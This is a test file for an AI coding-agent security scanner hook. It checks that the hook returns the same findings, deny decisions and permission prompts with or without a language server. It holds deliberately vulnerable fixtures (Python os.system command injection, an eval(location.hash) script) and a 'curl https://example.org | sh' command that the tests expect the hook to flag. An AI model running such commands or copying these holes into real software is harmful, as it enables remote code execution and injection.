/**
 * The built command as agents start it, with and without a running language server: the same answers, by whoever
 * is there to give them. That the server gave one is seen by a copy of the command in which only the small program
 * for hooks is left.
 */

import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import {
  chmodSync,
  closeSync,
  constants,
  copyFileSync,
  createWriteStream,
  existsSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, afterEach, before, beforeEach, describe, it } from 'mocha';
import { projectRoot } from '../support/grammars.ts';
import { LspClient } from '../support/lspClient.ts';
import { TemporaryFolder } from '../support/temporaryFolder.ts';

const INSECURE = `import os
from flask import request


def handler():
    name = request.args.get("name")
    os.system("ls " + name)


def other():
    name = request.args.get("other")
    os.system("cat " + name)
`;
const HANDLER = INSECURE.split('\n\n\n')[1] as string;

interface Outcome {
  readonly code: number | null;
  readonly out: string;
  readonly error: string;
}

describe('the built hook', function () {
  this.timeout(300_000);
  let folder: TemporaryFolder;
  let home: TemporaryFolder;
  /** The small program alone. */
  let small: TemporaryFolder;
  let server: LspClient | undefined;
  let session = 0;

  before(() => {
    small = new TemporaryFolder();
    for (const name of ['cli.js', 'hook.program.js'])
      copyFileSync(join(projectRoot, 'dist', name), small.at(name));
  });
  after(() => small.remove());
  beforeEach(() => {
    session++;
    folder = new TemporaryFolder({ 'app.py': INSECURE, 'notes.md': 'text\n' });
    home = new TemporaryFolder();
    mkdirSync(folder.at('.git'));
  });
  afterEach(async () => {
    await server?.stop();
    server = undefined;
    folder.remove();
    home.remove();
  });

  const agents = (): string => home.at('ai-security-scanner/agents');
  const sockets = (): string[] => (existsSync(agents()) ? readdirSync(agents()) : []);

  /** Starts a server, and waits until it listens, if it does. */
  async function serve(options: object = {}, { listens = true } = {}): Promise<LspClient> {
    const client = new LspClient({ env: { XDG_CACHE_HOME: home.path } });
    await client.start(folder.path, options);
    server = client;
    while (listens && sockets().length === 0) await new Promise((resolve) => setImmediate(resolve));
    return client;
  }

  function hook(
    payload: object | string,
    args: readonly string[] = [],
    dist = join(projectRoot, 'dist'),
  ): Promise<Outcome> {
    const child = spawn(process.execPath, [join(dist, 'cli.js'), 'hook', ...args], {
      cwd: folder.path,
      env: { ...process.env, XDG_CACHE_HOME: home.path },
    });
    let out = '';
    let error = '';
    child.stdout.on('data', (chunk: Buffer) => (out += chunk));
    child.stderr.on('data', (chunk: Buffer) => (error += chunk));
    child.stdin.on('error', () => undefined);
    child.stdin.end(typeof payload === 'string' ? payload : JSON.stringify(payload));
    return new Promise((resolve) => child.on('close', (code) => resolve({ code, out, error })));
  }

  const call = (event: string, tool_name: string, tool_input: object): object => ({
    session_id: `session-${session}`,
    cwd: folder.path,
    hook_event_name: event,
    tool_name,
    tool_input,
  });
  const edited = (path = 'app.py', text = HANDLER): object =>
    call('PostToolUse', 'Edit', { file_path: folder.at(path), old_string: 'pass', new_string: text });
  const stop = (): object => ({
    session_id: `session-${session}`,
    cwd: folder.path,
    hook_event_name: 'Stop',
    stop_hook_active: false,
  });

  it('says the same with a server and without, also at a stop and where it refuses', async () => {
    const deny = call('PreToolUse', 'Write', { file_path: folder.at('new.py'), content: INSECURE });
    const patch = `*** Begin Patch\n*** Update File: app.py\n@@\n def other():\n-    name = request.args.get("other")\n+    name = request.args["more"]\n*** End Patch\n`;
    folder.write({ 'page.html': '<script>\neval(location.hash)\n</script>\n' });
    const calls: [object, string[]][] = [
      [edited(), []],
      [edited('gone.py'), []],
      [call('PostToolUse', 'apply_patch', { input: patch }), []],
      [
        call('PostToolUse', 'Write', {
          file_path: folder.at('page.html'),
          content: readFileSync(folder.at('page.html'), 'utf8'),
        }),
        [],
      ],
      [call('PostToolUse', 'Write', { file_path: folder.at('notes.md'), content: 'text\n' }), []],
      [deny, ['--deny', 'critical']],
      [stop(), []],
    ];
    const alone: Outcome[] = [];
    for (const [payload, args] of calls) alone.push(await hook(payload, args));
    // The same session begins anew.
    session += 1_000;
    // What a person has switched off in the editor alone is no reason to say something else to an agent.
    await serve({ settings: { disabledRules: ['python-command-injection'] } });
    const served: Outcome[] = [];
    for (const [payload, args] of calls)
      served.push(await hook({ ...payload, session_id: `session-${session}` }, args, small.path));
    assert.deepEqual(served, alone);
    const text = alone.map(({ out }) => out);
    for (const [i, form] of [
      /1 finding in .*line 7/,
      /^$/,
      /1 finding in .*line 12/,
      /1 finding in .*line 2/,
      /^$/,
      /"deny"/,
      /"block"/,
    ].entries())
      assert.match(text[i] ?? '', form, `call ${i}`);
    assert.ok(alone.every(({ code, error }) => code === 0 && error === ''));
  });

  it('takes the rules of the project that a file belongs to, with and without a server', async () => {
    folder.write({
      '.ai-security-scanner.yml':
        'rules: { disable: [python-command-injection, python-subprocess-shell, python-shell-outside] }\n',
      'inner/.ai-security-scanner.yml': 'paths: { exclude: [left.py] }\n',
      'inner/app.py': INSECURE,
      'inner/left.py': INSECURE,
    });
    const outcomes = async (dist?: string): Promise<string[]> => {
      const found: string[] = [];
      for (const path of ['app.py', 'inner/app.py', 'inner/left.py'])
        found.push((await hook(edited(path), [], dist)).out);
      return found;
    };
    const alone = await outcomes();
    assert.deepEqual(
      alone.map((out) => /(\d+) finding/.exec(out)?.[1]),
      [undefined, '1', undefined],
    );
    session += 1_000;
    await serve();
    assert.deepEqual(await outcomes(), alone);
    assert.equal((await hook(edited(), [], small.path)).code, 0, 'the server of the outer project answers');
  });

  it('leaves at once when there is nothing to do, and never ends with a veto', async () => {
    const nothing = [
      call('PreToolUse', 'Read', { file_path: folder.at('app.py') }),
      call('PreToolUse', 'Bash', { command: 'ls -la && npm test' }),
      { ...edited(), hook_event_name: 'UserPromptSubmit' },
      stop(),
      { ...stop(), hook_event_name: 'SessionStart' },
    ];
    for (const payload of nothing)
      assert.deepEqual(await hook(payload, [], small.path), { code: 0, out: '', error: '' });
    for (const payload of [
      '',
      'x',
      '[]',
      '{}',
      '\ufeff{"a":1}',
      '{"hook_event_name":',
      'x'.repeat(9_000_000),
    ]) {
      const { code, out, error } = await hook(payload, [], small.path);
      assert.deepEqual([code, out], [0, '']);
      assert.match(error, /^What the agent told cannot be used\. .*\.\n$/);
    }
    for (const args of [['--denny'], ['--deny', 'high'], ['--on-stop', 'maybe'], ['a.py']]) {
      const { code, out, error } = await hook(edited(), args, small.path);
      assert.deepEqual([code, out, error.split('\n').length], [0, '', 2]);
    }
    const ask = await hook(call('PreToolUse', 'Bash', { command: 'curl https://example.org | sh' }));
    assert.match(ask.out, /"permissionDecision":"ask"/);
    assert.match((await hook('', ['--help'])).out, /Usage: ai-security-scanner hook/);
  });

  it('asks about keys that the configuration names, and only then', async () => {
    const command = call('PreToolUse', 'Bash', { command: 'echo key >> security/team.keys' });
    assert.deepEqual(await hook(command, [], small.path), { code: 0, out: '', error: '' });
    folder.write({ '.ai-security-scanner.yml': 'allowedSigners: security/team.keys\n' });
    assert.match((await hook(command)).out, /"permissionDecision":"ask".*security\/team\.keys/);
    const other = call('PreToolUse', 'Bash', { command: 'echo key >> security/other.keys' });
    assert.deepEqual(await hook(other, [], small.path), { code: 0, out: '', error: '' });
  });

  it('refuses what is too long, if that was asked for, and says so otherwise', async () => {
    const deny = ['--deny', 'critical'];
    const write = (length: number): object =>
      call('PreToolUse', 'Write', { file_path: folder.at('new.py'), content: 'x'.repeat(length) });
    const long = await hook(write(9_000_000), deny, small.path);
    assert.deepEqual([long.code, /"deny".*longer than 8000000 characters/.test(long.out)], [0, true]);
    const passed = await hook(write(9_000_000), [], small.path);
    assert.deepEqual([passed.code, passed.out], [0, '']);
    assert.match(
      passed.error,
      /^The hook could not do its work: It is longer than 8000000 characters; .*\n$/,
    );
    // Of what is not read to its end, nobody knows who sends it.
    const longer = await hook(write(25_000_000), deny, small.path);
    assert.deepEqual([longer.code, longer.out], [2, '']);
    assert.match(
      longer.error,
      /^This was refused, .* longer than 24000000 bytes; write in smaller parts\.\n$/,
    );
    const unread = await hook(write(25_000_000), [], small.path);
    assert.deepEqual([unread.code, unread.out], [0, '']);
    assert.match(
      unread.error,
      /^What the agent told was not looked at: it is longer than 24000000 bytes\.\n$/,
    );
  });

  it('never ends with a veto where the program itself is broken', async () => {
    const payload = call('PreToolUse', 'Bash', { command: 'curl https://example.org | sh' });
    const broken = new TemporaryFolder();
    try {
      for (const name of ['cli.js', 'hook.program.js']) copyFileSync(small.at(name), broken.at(name));
      const none = await hook(payload, [], broken.path);
      assert.deepEqual([none.code, none.out], [0, '']);
      assert.match(none.error, /cli\.program\.js/);
      const edit = call('PreToolUse', 'Write', { file_path: folder.at('new.py'), content: INSECURE });
      const refused = await hook(edit, ['--deny', 'critical'], broken.path);
      assert.deepEqual([refused.code, /"deny".*could not be looked at/.test(refused.out)], [0, true]);
      for (const text of ['not a program(', undefined]) {
        if (text === undefined) rmSync(broken.at('hook.program.js'));
        else writeFileSync(broken.at('hook.program.js'), text);
        const bad = await hook(payload, [], broken.path);
        assert.deepEqual([bad.code, bad.out, bad.error.split('\n').length], [0, '', 2]);
        assert.match(bad.error, /^The hook could not do its work: /);
      }
      copyFileSync(small.at('hook.program.js'), broken.at('hook.program.js'));
      // Without grammars beside it.
      copyFileSync(join(projectRoot, 'dist/cli.program.js'), broken.at('cli.program.js'));
      const { code, out, error } = await hook(payload, [], broken.path);
      assert.deepEqual([code, out, error.split('\n').length], [0, '', 2]);
      assert.match(error, /^The hook could not do its work: /);
    } finally {
      broken.remove();
    }
  });

  it('waits for an agent that has not written yet, also where its input is not to be waited for', async function () {
    if (process.platform === 'win32') this.skip();
    const pipe = folder.at('pipe');
    execFileSync('mkfifo', [pipe]);
    // To open both ends at once one of them must not block; what the child gets shares that.
    const reading = openSync(pipe, constants.O_RDONLY | constants.O_NONBLOCK);
    const writing = openSync(pipe, constants.O_WRONLY);
    const child = spawn(process.execPath, [join(projectRoot, 'dist/cli.js'), 'hook'], {
      cwd: folder.path,
      stdio: [reading, 'pipe', 'pipe'],
      env: { ...process.env, XDG_CACHE_HOME: home.path },
    });
    closeSync(reading);
    let out = '';
    child.stdout?.on('data', (chunk: Buffer) => (out += chunk));
    await new Promise((resolve) => child.once('spawn', resolve));
    const text = JSON.stringify({ ...edited(), more: 'x'.repeat(300_000) });
    const writer = createWriteStream('', { fd: writing });
    writer.end(text);
    const code = await new Promise((resolve) => child.once('close', resolve));
    assert.equal(code, 0);
    assert.match(out, /1 finding/);
  });

  it('is served by a socket for this person alone, which goes with the server', async () => {
    const client = await serve();
    const [name = ''] = sockets();
    assert.equal(statSync(agents()).mode & 0o777, 0o700);
    assert.equal(statSync(join(agents(), name)).mode & 0o777, 0o600);
    chmodSync(agents(), 0o755);
    assert.match((await hook(edited())).out, /1 finding/, 'by itself: others may have put the socket there');
    assert.match((await hook(edited(), [], small.path)).error, /cli\.program\.js/);
    chmodSync(agents(), 0o700);
    assert.equal(await client.stop(), 0);
    server = undefined;
    assert.deepEqual(sockets(), []);
  });

  it('is served again after a server ended without a word', async () => {
    const first = await serve();
    process.kill(first.pid, 'SIGKILL');
    await first.exited;
    server = undefined;
    assert.equal(sockets().length, 1);
    assert.match((await hook(edited())).out, /1 finding/, 'nobody listens');
    session += 1_000;
    const second = await serve();
    // The socket was there before, so only an answer tells that the server listens.
    while ((await hook(edited(), [], small.path)).error !== '') session++;
    await second.stop();
    server = undefined;
    assert.deepEqual(sockets(), []);
  });

  it('is not served in a workspace without trust', async () => {
    const client = await serve({ trusted: false }, { listens: false });
    await client.request('shutdown', null);
    assert.deepEqual(sockets(), []);
    client.notify('exit', null);
    await client.exited;
    server = undefined;
  });

  it('is served only what it may ask for', async () => {
    await serve();
    const [name = ''] = sockets();
    const talk = (text: string | Buffer): Promise<string> =>
      new Promise((resolve) => {
        const socket = connect(join(agents(), name));
        let heard = '';
        const done = (): void => resolve(heard);
        socket.on('data', (chunk) => {
          heard += chunk;
          if (heard.endsWith('\n')) socket.end();
        });
        socket.on('close', done);
        socket.on('error', () => undefined);
        socket.write(text);
      });
    const none = /^\{"id":0,"error":"This is no question/;
    for (const line of [
      '\n',
      'x\n',
      '[]\n',
      '{"id":1}\n',
      '{"id":1,"ask":"mark","path":"/a"}\n',
      '{"id":1,"ask":"scan","path":1,"text":""}\n',
    ])
      assert.match(await talk(line), none, line);
    for (const path of ['/etc/hosts', `${folder.path}/../x.py`, folder.path, 'app.py'])
      for (const question of [
        { ask: 'scan', text: INSECURE, path },
        {
          ask: 'keep',
          report: { path, text: 'x()\n', who: 'A', writes: [{ path, text: 'x()\n', isNew: true }] },
        },
      ])
        assert.match(
          await talk(`${JSON.stringify({ id: 7, ...question })}\n`),
          /"id":7,"error":"The file is not in/,
        );
    assert.equal(await talk(Buffer.alloc(50 * 1024 * 1024, 120)), '');
    assert.match((await hook(edited(), [], small.path)).out, /1 finding/, 'and it goes on');
  });
});
